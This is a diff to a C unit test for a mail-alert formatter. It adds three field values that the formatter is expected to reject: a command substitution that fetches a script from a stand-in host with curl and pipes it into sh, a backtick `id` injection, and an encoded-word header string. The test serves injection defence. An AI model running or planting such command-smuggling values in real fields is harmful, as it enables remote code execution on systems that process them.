@@ -211,7 +211,7 @@ test_a_line_break_in_a_field_is_refused(void **state)
 	char buf[8192];
 	size_t len = 7;
 	(void)state;
-	for (int i = 0; i < 9; i++) {
+	for (int i = 0; i < 12; i++) {
 		struct node_mail_alert a = alert();
 		const char *from = FROM, *to = TO;
 		switch (i) {
@@ -224,6 +224,11 @@ test_a_line_break_in_a_field_is_refused(void **state)
 		case 6: a.case_id = "C-\xc3\xa9"; break; /* not ASCII */
 		case 7: a.kind = "subject.name"; break;
 		case 8: a.role = "concern"; break; /* a match is not mailed */
+		/* a directing peer chooses the case id: nothing a shell or a
+		 * mail reader would take for more than a name */
+		case 9: a.case_id = "$(curl${IFS}x.example|sh)"; break;
+		case 10: a.case_id = "=?utf-8?q?Urgent?="; break;
+		case 11: a.partner = "p`id`"; break;
 		}
 		assert_int_equal(node_mail_text(&a, from, to, buf, sizeof(buf),
 				     &len), WN_EINVAL);
